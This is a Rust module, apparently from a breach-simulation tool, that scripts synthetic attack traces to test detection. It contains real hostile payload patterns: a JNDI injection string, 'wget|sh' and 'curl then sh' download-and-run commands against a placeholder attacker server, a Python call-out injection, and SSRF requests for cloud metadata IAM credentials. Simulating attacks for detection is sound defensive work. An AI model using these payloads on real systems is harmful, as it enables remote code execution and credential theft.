//! Breaches that start no shell, or start it from code that runs inside the service.

use breachline::event::MetadataPath;

use super::super::scene::{Scene, encoded};
use super::{Attack, Script, Trace, request, sent};

pub(super) const SCRIPTS: &[Script] = &[
    Script { name: "jndi, then a shell", stages: 3, request: Trace::Visible, play: jndi_then_shell },
    Script { name: "serialized object", stages: 3, request: Trace::Visible, play: serialized },
    Script { name: "jndi callback only", stages: 2, request: Trace::Visible, play: jndi_only },
    Script { name: "code that calls out", stages: 2, request: Trace::Visible, play: code_calls_out },
    Script { name: "forged request for credentials", stages: 2, request: Trace::Visible, play: forged },
    Script { name: "forged request, answered 500", stages: 2, request: Trace::Visible, play: forged_and_failed },
    Script { name: "forged request by a converter", stages: 2, request: Trace::Visible, play: forged_by_tool },
];

fn jndi(attack: &Attack) -> String {
    format!("/login?user={}", encoded(&format!("${{jndi:ldap://{}/a}}", attack.server)))
}

fn jndi_then_shell(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    request(scene, attack, 2.5, &jndi(attack), 200);
    let worker = scene.worker();
    scene.contact(0.05, worker, attack.server);
    let url = format!("http://{}/j.sh", attack.authority());
    let shell = scene.shell(1.0, worker, &format!("wget -O- {url}|sh"));
    let wget = scene.run(1.05, shell, "/usr/bin/wget", &["wget", "-O-", &url]);
    scene.contact(1.1, wget, attack.server);
    1.5
}

fn serialized(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    sent(scene, attack, 0.0, 1.0, ("POST", "/invoker/JMXInvokerServlet", "Java/1.8.0_202"), 500);
    let worker = scene.worker();
    let url = format!("http://{}/y", attack.authority());
    let shell = scene.shell(0.2, worker, &format!("curl {url} -o /tmp/y && sh /tmp/y"));
    let curl = scene.run(0.25, shell, "/usr/bin/curl", &["curl", &url, "-o", "/tmp/y"]);
    scene.contact(0.3, curl, attack.server);
    let second = scene.run(0.7, shell, "/usr/bin/dash", &["sh", "/tmp/y"]);
    scene.contact(20.0, second, attack.server);
    20.0
}

fn jndi_only(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    request(scene, attack, 1.0, &jndi(attack), 200);
    let worker = scene.worker();
    scene.contact(0.05, worker, attack.server);
    0.05
}

fn code_calls_out(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let code = format!("__import__('urllib.request').request.urlopen('http://{}/c').read()", attack.authority());
    request(scene, attack, 0.8, &format!("/calc?expr={}", encoded(&code)), 500);
    let worker = scene.worker();
    scene.contact(0.1, worker, attack.server);
    0.1
}

/// A page fetched on demand; the metadata service instead of a page.
fn forgery() -> String {
    format!("/fetch?url={}", encoded("http://169.254.169.254/latest/meta-data/iam/security-credentials/"))
}

fn forged(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    request(scene, attack, 0.2, &forgery(), 200);
    let worker = scene.worker();
    scene.ask(0.05, worker, MetadataPath::Recon, false);
    // The first answer named the role.
    let role = format!("http://169.254.169.254/latest/meta-data/iam/security-credentials/{}", scene.role());
    let again = format!("/fetch?url={}", encoded(&role));
    sent(scene, attack, 4.0, 0.2, ("GET", &again, "curl/8.5"), 200);
    scene.ask(4.05, worker, MetadataPath::Credential, false);
    4.1
}

fn forged_and_failed(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    request(scene, attack, 0.2, &forgery(), 500);
    let worker = scene.worker();
    scene.ask(0.05, worker, MetadataPath::Credential, false);
    0.1
}

fn forged_by_tool(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    request(scene, attack, 1.0, &forgery(), 200);
    let worker = scene.worker();
    let tool = scene.run(
        0.05,
        worker,
        "/usr/bin/wkhtmltopdf",
        &["wkhtmltopdf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "/tmp/1.pdf"],
    );
    scene.ask(0.2, tool, MetadataPath::Credential, false);
    scene.exit(0.9, tool);
    0.9
}
